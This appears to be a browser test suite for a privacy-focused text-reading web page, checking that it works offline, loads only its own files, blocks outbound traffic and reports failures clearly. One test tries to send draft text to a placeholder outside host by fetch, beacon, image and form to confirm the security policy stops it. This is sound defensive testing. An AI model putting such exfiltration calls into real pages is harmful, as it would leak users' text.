// Nothing leaves the page, and whatever breaks is said.
import { test } from "node:test";
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import { visit } from "./browser.mjs";
import { ENGLISH, FRENCH, QUIET } from "./articles.mjs";

const settled = (v) => v.page.waitForNetworkIdle({ idleTime: 400 });

test("after the page has loaded nothing is fetched, not even for a fresh reader", () =>
  visit("silence", async (v) => {
    await v.state("empty");
    await settled(v);
    const loaded = v.site.requests.length;
    assert.ok(loaded > 0);
    await v.page.setOfflineMode(true);
    await v.paste(FRENCH);
    await v.page.click("[data-interface=fr]");
    await v.page.select("#language", "en");
    await v.page.click("#example");
    assert.ok(await v.read());
    await v.page.select("#language", "");
    assert.ok((await v.read()).cards.length > 0);
    await breakReader(v);
    await v.paste(`${FRENCH} 🙂`).catch(() => {});
    await v.paste(FRENCH);
    assert.ok((await v.cards()).length > 0, "a fresh reader reads, without the network");
    await v.page.setOfflineMode(false);
    await settled(v);
    assert.deepEqual(v.site.requests.slice(loaded), []);
  }));

test("everything that is loaded comes from the page's own folder", () =>
  visit("origin", async (v) => {
    await v.state("empty");
    await settled(v);
    const own = /^\/(|page\.(js|css)|bilan-worker\.js|bilan\.wasm|icon\.svg)$/;
    assert.deepEqual(v.site.requests.filter((path) => !own.test(path)), []);
  }));

test("the policy of the page stops whatever would send or load", () =>
  visit("policy", async (v) => {
    const blocked = await v.page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
      const other = "https://elsewhere.invalid/collect";
      await fetch(other, { method: "POST", body: "draft" }).catch(() => violations.push("fetch failed"));
      navigator.sendBeacon(other, "draft");
      new Image().src = `${other}?draft`;
      const form = Object.assign(document.createElement("form"), { action: other });
      document.body.append(form);
      form.submit();
      let html = "let through";
      try {
        document.createElement("p").innerHTML = "<b>draft</b>";
      } catch {
        html = "refused";
      }
      await new Promise((resolve) => setTimeout(resolve, 300));
      return { violations, html };
    });
    assert.ok(blocked.violations.includes("fetch failed"));
    for (const directive of ["connect-src", "img-src", "form-action"]) assert.ok(blocked.violations.includes(directive), directive);
    assert.equal(blocked.html, "refused");
  }));

test("the worker has nothing to send a text with", () =>
  visit("worker", async (v) => {
    await v.state("empty");
    assert.ok(v.page.workers().length > 0);
    for (const worker of v.page.workers()) {
      const ways = await worker.evaluate(() =>
        ["fetch", "XMLHttpRequest", "WebSocket", "EventSource", "WebTransport", "importScripts", "caches"].filter((way) => way in self));
      assert.deepEqual(ways, []);
    }
  }));

/** From now on the reader that is at work traps as soon as a text with other than ASCII letters reaches it. */
async function breakReader(v) {
  const [worker] = v.page.workers();
  await worker.evaluate(() => {
    for (const way of ["encode", "encodeInto"]) {
      TextEncoder.prototype[way] = () => {
        throw new WebAssembly.RuntimeError("unreachable");
      };
    }
  });
}

test("a trap is said in one sentence, the text stays, and a fresh reader takes the next one", () =>
  visit("trap", async (v) => {
    await v.paste(QUIET);
    await breakReader(v);
    await assert.rejects(v.paste(FRENCH), /stopped on this text/);
    assert.match(await v.state("error"), /stopped on this text/);
    assert.equal(await v.text(), FRENCH);
    assert.deepEqual(await v.marked("warning"), []);
    // The same text is not read again unasked, whatever else is said about it.
    await v.page.select("#language", "fr");
    assert.match(await v.state("error"), /stopped on this text/);
    await (await v.in("[data-again]")).click();
    await v.state("ready");
    assert.ok((await v.cards()).length > 0);
    assert.equal(await v.text(), FRENCH);
  }));

test("a worker that is gone does not keep the page waiting", () =>
  visit("no-worker", async (v) => {
    await v.paste(FRENCH);
    assert.ok((await v.cards()).length > 0, "it reads on the main thread");
  }, { pages: { "/bilan-worker.js": onlyAsModule() } }));

/** The first requests for the worker fail, as a broken worker would; the page's own import finds it. */
function onlyAsModule() {
  return async (request, response) => {
    if (request.headers["sec-fetch-dest"] === "worker") return response.writeHead(404).end();
    const site = process.env.BILAN_SITE ?? new URL("../../target/site/", import.meta.url).pathname;
    response.setHeader("content-type", "text/javascript").end(await readFile(`${site}/bilan-worker.js`));
  };
}

test("a core that is not there is said in one sentence", () =>
  visit("no-core", async (v) => {
    assert.match(await v.state("error"), /could not be loaded/);
    await assert.rejects(v.paste(ENGLISH), /could not be loaded/);
    assert.equal(await v.text(), ENGLISH);
  }, { pages: { "/bilan.wasm": (_, response) => response.writeHead(404).end() } }));

test("a core that is broken is said in one sentence", () =>
  visit("bad-core", async (v) => {
    assert.match(await v.state("error"), /could not be loaded/);
  }, { pages: { "/bilan.wasm": (_, response) => response.setHeader("content-type", "application/wasm").end("no wasm") } }));

test("there is nothing for axe to find, in both languages, light and dark", async () => {
  for (const language of ["fr", "en"]) {
    await visit(`axe-${language}`, async (v) => {
      await v.page.setBypassCSP(true);
      await v.page.reload();
      await v.page.click("#example");
      await v.read();
      await (await v.in(".card")).click();
      assert.deepEqual(await v.axe(), [], language);
    }, { language });
  }
});
